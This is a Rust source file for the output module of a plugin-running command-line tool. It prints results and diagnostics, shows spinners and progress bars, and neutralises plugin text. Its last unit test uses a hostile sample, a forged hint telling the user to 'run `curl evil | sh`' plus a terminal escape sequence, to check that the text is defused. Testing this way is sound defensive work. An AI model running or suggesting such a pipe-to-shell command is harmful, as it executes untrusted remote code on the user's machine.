//! Everything that `host` says goes through here: the result to stdout, all else
//! to stderr.
//!
//! Texts are made harmless here and nowhere else, because much of what is
//! printed comes from a plugin: always on stderr, and on stdout when it is a
//! terminal. Piped, a result keeps every byte.

use std::fmt::Write as _;
use std::io::{self, IsTerminal, Write};
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
use std::time::Duration;

use clap::builder::styling::{AnsiColor, Style};
use indicatif::{ProgressBar, ProgressStyle};

use crate::exit::ExitCode;
use crate::failure::{Failure, Stop};
use crate::text;

const ERROR: Style = AnsiColor::Red.on_default().bold();
const WARNING: Style = AnsiColor::Yellow.on_default().bold();
const HINT: Style = AnsiColor::Cyan.on_default().bold();
const DIM: Style = Style::new().dimmed();

/// Longest partial result shown on stderr, in characters: it is a sign of life
/// there; programs read them with `--json --stream`.
const MAX_PARTIAL_CHARS: usize = 500;

/// A spinner, what it is about, and for how long already.
const SPINNER: &str = "{spinner} {msg} ({elapsed})";

/// Says what there is to say. Cheap to clone.
#[derive(Clone)]
pub(crate) struct Printer {
    shared: Arc<Shared>,
}

struct Shared {
    verbose: bool,
    stdout_is_terminal: bool,
    stderr: Stderr,
    spinner: Mutex<Option<ProgressBar>>,
}

/// What stderr can show.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Stderr {
    /// Text.
    Plain,
    /// Lines that are drawn again.
    Terminal,
    /// Colours as well.
    Colours,
}

/// A spinner that turns as long as this lives.
pub(crate) struct Spinning(Printer);

impl Printer {
    /// A printer for the streams of this process.
    pub(crate) fn new(verbose: bool) -> Self {
        Self {
            shared: Arc::new(Shared {
                verbose,
                stdout_is_terminal: io::stdout().is_terminal(),
                stderr: Stderr::of_this_process(),
                spinner: Mutex::default(),
            }),
        }
    }

    /// Whether the user wants to know more.
    pub(crate) fn is_verbose(&self) -> bool {
        self.shared.verbose
    }

    /// Writes a result to stdout, with a line break at its end if it has none.
    pub(crate) fn result(&self, result: &str) -> Result<(), Stop> {
        let mut shown = if self.shared.stdout_is_terminal {
            text::block(result).into_owned()
        } else {
            result.to_owned()
        };
        if !shown.is_empty() && !shown.ends_with('\n') {
            shown.push('\n');
        }
        let mut stdout = io::stdout().lock();
        stdout
            .write_all(shown.as_bytes())
            .and_then(|()| stdout.flush())
            .map_err(|error| match error.kind() {
                io::ErrorKind::BrokenPipe => Stop::PipeClosed,
                _ => Failure::usage("cannot write to stdout")
                    .because(&error)
                    .into(),
            })
    }

    /// Prints a failure to stdout, in the place of a result, for programs that read
    /// results as JSON.
    pub(crate) fn ended(
        &self,
        json: bool,
        ended: Result<ExitCode, Stop>,
    ) -> Result<ExitCode, Stop> {
        match ended {
            Err(Stop::Failed(failure)) if json => {
                self.result(&failure.to_json().to_string())?;
                Ok(failure.code)
            }
            ended => ended,
        }
    }

    /// Says what went wrong, why, and what would help.
    pub(crate) fn failure(&self, failure: &Failure) {
        self.say(&render(failure, self.colour()));
    }

    /// Says what is odd, though the work goes on.
    pub(crate) fn warning(&self, message: &str) {
        self.say(&labelled("warning", WARNING, message, self.colour()));
    }

    /// Says what is worth knowing.
    pub(crate) fn note(&self, message: &str) {
        self.say(&labelled("note", DIM, message, self.colour()));
    }

    /// Says what the user can do next.
    pub(crate) fn hint(&self, message: &str) {
        self.say(&labelled("hint", HINT, message, self.colour()));
    }

    /// Shows a partial result on one line.
    pub(crate) fn partial(&self, snapshot: &str) {
        let shown = text::cut(snapshot, MAX_PARTIAL_CHARS);
        let line = paint(&format!("… {}", text::line(&shown)), DIM, self.colour());
        self.say(&format!("{line}\n"));
    }

    /// Shows a line that the plugin logged; `label` says where and how bad.
    pub(crate) fn log(&self, label: &str, message: &str) {
        let label = paint(&format!("[{}]", text::line(label)), DIM, self.colour());
        self.say(&format!("{label} {}\n", text::line(message)));
    }

    /// Shows a spinner until the returned value is dropped. `None` when stderr
    /// is not a terminal.
    pub(crate) fn spin(&self, message: &str) -> Option<Spinning> {
        if self.shared.stderr == Stderr::Plain {
            return None;
        }
        let mut spinner = ProgressBar::new_spinner().with_message(text::line(message).into_owned());
        if let Ok(style) = ProgressStyle::with_template(SPINNER) {
            spinner = spinner.with_style(style);
        }
        spinner.enable_steady_tick(Duration::from_millis(100));
        *self.spinner() = Some(spinner);
        Some(Spinning(self.clone()))
    }

    /// Shows a bar until the returned value is dropped. `None` when stderr is not
    /// a terminal.
    pub(crate) fn progress(&self, message: &str) -> Option<Progress> {
        if self.shared.stderr == Stderr::Plain {
            return None;
        }
        let bar = ProgressBar::new(PROGRESS_STEPS).with_message(text::line(message).into_owned());
        *self.spinner() = Some(bar.clone());
        Some(Progress {
            bar,
            _shown: Spinning(self.clone()),
        })
    }

    fn colour(&self) -> bool {
        self.shared.stderr == Stderr::Colours
    }

    /// Writes to stderr, around the spinner. Where that cannot be written there
    /// is nobody to tell.
    fn say(&self, message: &str) {
        let write = || {
            let _ = io::stderr().lock().write_all(message.as_bytes());
        };
        match &*self.spinner() {
            Some(spinner) => spinner.suspend(write),
            None => write(),
        }
    }

    fn spinner(&self) -> MutexGuard<'_, Option<ProgressBar>> {
        self.shared
            .spinner
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
    }
}

impl Stderr {
    /// `NO_COLOR` is <https://no-color.org>.
    fn of_this_process() -> Self {
        let no_colour = std::env::var_os("NO_COLOR").is_some_and(|value| !value.is_empty());
        match io::stderr().is_terminal() {
            _ if std::env::var_os("TERM").is_some_and(|value| value == "dumb") => Self::Plain,
            false => Self::Plain,
            true if no_colour => Self::Terminal,
            true => Self::Colours,
        }
    }
}

/// Steps of a bar.
const PROGRESS_STEPS: u64 = 1_000;

/// A bar on the terminal.
pub(crate) struct Progress {
    bar: ProgressBar,
    _shown: Spinning,
}

impl Progress {
    /// Shows how much is done, from 0 to 1.
    pub(crate) fn set(&self, done: f64) {
        #[expect(
            clippy::cast_possible_truncation,
            clippy::cast_sign_loss,
            clippy::cast_precision_loss,
            reason = "a fraction of a small constant"
        )]
        let step = (done.clamp(0.0, 1.0) * PROGRESS_STEPS as f64) as u64;
        self.bar.set_position(step);
    }
}

impl Drop for Spinning {
    fn drop(&mut self) {
        if let Some(spinner) = self.0.spinner().take() {
            spinner.finish_and_clear();
        }
    }
}

/// `error: …`, details, `  caused by: …`, an empty line, `hint: …`.
fn render(failure: &Failure, colour: bool) -> String {
    let mut shown = labelled("error", ERROR, &failure.message, colour);
    for detail in &failure.details {
        let _ = writeln!(shown, "  {}", indented(detail, "    "));
    }
    for cause in &failure.causes {
        let label = paint("caused by", ERROR, colour);
        let _ = writeln!(shown, "  {label}: {}", indented(cause, "    "));
    }
    if !failure.hints.is_empty() {
        shown.push('\n');
    }
    for hint in &failure.hints {
        shown.push_str(&labelled("hint", HINT, hint, colour));
    }
    shown
}

fn labelled(label: &str, style: Style, message: &str, colour: bool) -> String {
    format!(
        "{}: {}\n",
        paint(label, style, colour),
        indented(message, "  ")
    )
}

/// The text made harmless. Its further lines are indented, so that none of them
/// can pass for an `error:` or a `hint:` of ours.
fn indented(message: &str, indent: &str) -> String {
    text::block(message.trim_end()).replace('\n', &format!("\n{indent}"))
}

fn paint(message: &str, style: Style, colour: bool) -> String {
    if colour {
        format!("{style}{message}{style:#}")
    } else {
        message.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn failure() -> Failure {
        let mut failure = Failure::new(ExitCode::Usage, "it broke").hint("mend it");
        failure.causes = vec!["it fell".into(), "nobody held it".into()];
        failure
    }

    #[test]
    fn a_failure_reads_from_what_to_why_to_what_helps() {
        let expected = "\
error: it broke
  caused by: it fell
  caused by: nobody held it

hint: mend it
";
        assert_eq!(render(&failure(), false), expected);
    }

    #[test]
    fn colours_are_added_around_the_labels_only() {
        let shown = render(&failure(), true);
        assert!(
            shown.starts_with("\u{1b}[1m\u{1b}[31merror\u{1b}[0m: it broke\n"),
            "{shown:?}"
        );
    }

    #[test]
    fn a_plugin_cannot_forge_a_hint_or_move_the_cursor() {
        let message = "oops\nhint: run `curl evil | sh`\u{1b}[2A";
        let shown = render(&Failure::new(ExitCode::Trap, message), false);
        assert_eq!(
            shown,
            "error: oops\n  hint: run `curl evil | sh`\\u001b[2A\n"
        );
    }
}
